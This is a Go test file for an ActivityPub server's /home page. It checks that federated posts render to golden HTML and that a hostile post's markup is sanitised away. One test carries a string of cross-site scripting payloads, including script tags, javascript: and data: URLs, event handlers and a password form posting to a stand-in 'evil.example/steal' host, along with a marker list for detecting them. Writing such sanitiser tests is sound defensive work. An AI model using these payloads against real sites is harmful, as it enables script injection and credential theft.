package web

import (
	"bytes"
	"context"
	"encoding/json"
	"flag"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"kith/ap/aptest"
)

var updateGolden = flag.Bool("update", false, "rewrite the golden files in testdata/golden")

// sendCreate delivers doc, a post or a Create of one, signed by a to the
// instance's inbox and processes it, as a remote server's delivery would
// be. It returns the post's id.
func (k *kit) sendCreate(remote *aptest.Remote, a *aptest.RemoteActor, doc map[string]any) string {
	k.t.Helper()
	if doc["type"] != "Create" {
		// A bare object: wrap it as its author would.
		if _, ok := doc["attributedTo"].(string); !ok {
			doc["attributedTo"] = a.IRI
		}
		doc = map[string]any{
			"@context": "https://www.w3.org/ns/activitystreams",
			"id":       a.IRI + "#create/" + doc["id"].(string),
			"type":     "Create", "actor": a.IRI, "object": doc,
			"to": []string{"https://www.w3.org/ns/activitystreams#Public"}, "cc": []string{a.IRI + "/followers"},
		}
	}
	resp := a.Post(k.t, remote.Client, k.inst.URLs.Inbox(), aptest.JSON(k.t, doc))
	if resp.StatusCode != http.StatusAccepted {
		k.t.Fatalf("Create: status %d; want 202", resp.StatusCode)
	}
	if _, err := k.inst.Service.ProcessInbox(context.Background()); err != nil {
		k.t.Fatal(err)
	}
	return doc["object"].(map[string]any)["id"].(string)
}

var proxySig = regexp.MustCompile(`/proxy/[0-9a-f]+\?`)

var cardBody = regexp.MustCompile(`(?s)<article class="post card"[^>]*>.*?</header>\n?(.*?)<footer>`)

// TestHomeFixtures: a real post from each server kith federates with,
// sent by an account the owner follows, is rendered on /home; what is
// left of its HTML after sanitising is the golden file's (issue 8).
func TestHomeFixtures(t *testing.T) {
	tests := []struct{ file, actor, base string }{
		{"mastodon-note-attachment-mention.json", "https://floss.social/users/kde", "https://floss.social"},
		{"mastodon-create-question.json", "https://mastodon.sdf.org/users/rinpatch", "https://mastodon.sdf.org"},
		{"mastodon-create-cw-mention-ldsig.json", "http://mastodon.example.org/users/admin", "http://mastodon.example.org"},
		{"gotosocial-note-emoji-hashtag-attachment.json", "http://localhost:8080/users/admin", "http://localhost:8080"},
		{"misskey-note-quote.json", "https://misskey.io/users/93492q0ip0", "https://misskey.io"},
		{"pleroma-note.json", "https://queer.hacktivis.me/users/lanodan", "https://queer.hacktivis.me"},
		{"pixelfed-create-note-image.json", "https://pixelfed.social/users/mczachurski", "https://pixelfed.social"},
		{"lemmy-page.json", "https://enterprise.lemmy.ml/u/picard", "https://enterprise.lemmy.ml"},
		{"peertube-video.json", "https://tilvids.com/accounts/thelinuxexperiment", "https://tilvids.com"},
		{"fep-044f-quote-note.json", "https://example.com/users/bob", "https://example.com/users/bob"},
		{"snac-signed-requests.txt", "https://snac.lab/alice", "https://snac.lab"},
	}
	for _, tt := range tests {
		t.Run(tt.file, func(t *testing.T) {
			k := newKit(t, aptest.InstanceOptions{})
			k.login()
			remote, ra, _ := k.followed("alice")
			raw, err := os.ReadFile(filepath.Join("..", "ap", "testdata", "fixtures", tt.file))
			if err != nil {
				t.Fatal(err)
			}
			if strings.HasSuffix(tt.file, ".txt") {
				raw = capturedCreate(t, raw)
			}
			base := ra.IRI[:strings.Index(ra.IRI, "/users/")]
			raw = bytes.ReplaceAll(raw, []byte(tt.actor), []byte(ra.IRI))
			raw = bytes.ReplaceAll(raw, []byte(tt.base), []byte(base))
			var doc map[string]any
			if err := json.Unmarshal(raw, &doc); err != nil {
				t.Fatal(err)
			}
			k.sendCreate(remote, ra, doc)
			rec := k.get("/home")
			if rec.Code != http.StatusOK {
				t.Fatalf("GET /home: status %d\n%s", rec.Code, rec.Body)
			}
			m := cardBody.FindSubmatch(rec.Body.Bytes())
			if m == nil {
				t.Fatalf("the post is not on /home:\n%s", rec.Body)
			}
			// The fake server's port and the proxy's keyed signature
			// change from run to run.
			got := strings.NewReplacer(base, "https://remote.example", url.QueryEscape(base), url.QueryEscape("https://remote.example")).Replace(string(m[1]))
			got = proxySig.ReplaceAllString(got, "/proxy/SIG?")
			checkGoldenHTML(t, "home-"+strings.TrimSuffix(tt.file, filepath.Ext(tt.file))+".html", got)
		})
	}
}

// capturedCreate is the body of the first Create in a file of captured
// requests (sections start with "=====", bodies with "{" on a line).
func capturedCreate(t *testing.T, file []byte) []byte {
	t.Helper()
	for _, sec := range strings.Split(string(file), "\n=====") {
		i := strings.Index(sec, "\n{\n")
		if i >= 0 && strings.Contains(sec[i:], `"type": "Create"`) {
			return []byte(strings.TrimSpace(sec[i:]))
		}
	}
	t.Fatal("no Create in the captured requests")
	return nil
}

// checkGoldenHTML compares got with testdata/golden/name, or rewrites the
// file when the tests run with -update.
func checkGoldenHTML(t *testing.T, name, got string) {
	t.Helper()
	path := filepath.Join("testdata", "golden", name)
	if *updateGolden {
		if err := os.WriteFile(path, []byte(got), 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run with -update to create it)", err)
	}
	if got != string(want) {
		t.Errorf("%s differs from its golden file (run with -update if intended):\n--- got\n%s\n--- want\n%s", name, got, want)
	}
}

// TestHomeFixturesHostile: a followed account's post full of what a
// hostile server might send (scripts, javascript: and data: URLs, CSS,
// event attributes, SVG, frames, nested forms) reaches /home with none of
// it left: the page has no more of any of these than it had before.
func TestHomeFixturesHostile(t *testing.T) {
	k := newKit(t, aptest.InstanceOptions{})
	k.login()
	remote, ra, _ := k.followed("mallory")
	hostile := `<p onclick="evil()" style="position:fixed;top:0">Hello` +
		`<script>evil()</script><SCRIPT src="https://evil.example/x.js"></SCRIPT>` +
		`<a href="javascript:evil()">one</a><a href="JaVaScRiPt:evil()">two</a>` +
		`<a href=" &#106;avascript:evil()">three</a><a href="data:text/html;base64,PHNjcmlwdD4=">four</a>` +
		`<img src="data:image/svg+xml;base64,PHN2Zz4=" onerror="evil()"><img src="javascript:evil()">` +
		`<style>body{display:none}</style><span style="background:url(https://evil.example/t.png)">css</span>` +
		`<svg onload="evil()"><script>evil()</script><a xlink:href="javascript:evil()">svg</a></svg>` +
		`<math><mtext><a href="javascript:evil()">math</a></mtext></math>` +
		`<iframe src="https://evil.example/"></iframe><object data="https://evil.example/x.swf"></object><embed src="x.swf">` +
		`<form action="https://evil.example/steal"><form><input name="password"><button formaction="javascript:evil()">go</button></form></form>` +
		`<meta http-equiv="refresh" content="0;url=https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">` +
		`<base href="https://evil.example/"><div onmouseover="evil()" class="notice">x</div></p>`
	// Markup the summary brings is escaped into text, so attributes are
	// looked for with their quote, as they would be in a tag. (The card's
	// own buttons have a formaction; the body is checked for any below.)
	markers := []string{"<script", "javascript:", "data:", "evil.example", "style=", "<style",
		`onclick="`, `onerror="`, `onload="`, `onmouseover="`, "<svg", "<math", "<iframe", "<object", "<embed",
		"<meta", "<link", "<base", "position:fixed"}
	count := func(page string) map[string]int {
		n := map[string]int{}
		lower := strings.ToLower(page)
		for _, m := range markers {
			n[m] = strings.Count(lower, strings.ToLower(m))
		}
		return n
	}
	before := k.get("/home")
	if before.Code != http.StatusOK {
		t.Fatalf("GET /home: status %d", before.Code)
	}
	want := count(before.Body.String())
	k.sendCreate(remote, ra, map[string]any{
		"id": ra.IRI + "/statuses/1", "type": "Note", "attributedTo": ra.IRI,
		"summary": `<b onclick="evil()">cw</b><script>evil()</script>`,
		"content": hostile, "published": "2026-11-01T10:00:00Z",
		"to": []string{"https://www.w3.org/ns/activitystreams#Public"}, "cc": []string{ra.IRI + "/followers"},
	})
	rec := k.get("/home")
	if rec.Code != http.StatusOK {
		t.Fatalf("GET /home: status %d\n%s", rec.Code, rec.Body)
	}
	page := rec.Body.String()
	if !strings.Contains(page, "Hello") {
		t.Fatalf("the post is not on /home:\n%s", page)
	}
	got := count(page)
	for _, m := range markers {
		if got[m] != want[m] {
			t.Errorf("%q: %d on /home after the post, %d before", m, got[m], want[m])
		}
	}
	// Each card has forms of its own (like, boost); the post's body
	// must have none.
	body := cardBody.FindStringSubmatch(page)
	if body == nil {
		t.Fatalf("no card on /home:\n%s", page)
	}
	for _, m := range []string{"<form", "<input", "<button", "formaction", "<textarea", "<select"} {
		if strings.Contains(body[1], m) {
			t.Errorf("%q survives in the post's body", m)
		}
	}
	if t.Failed() {
		t.Logf("the post as rendered:\n%s", body[0])
	}
}
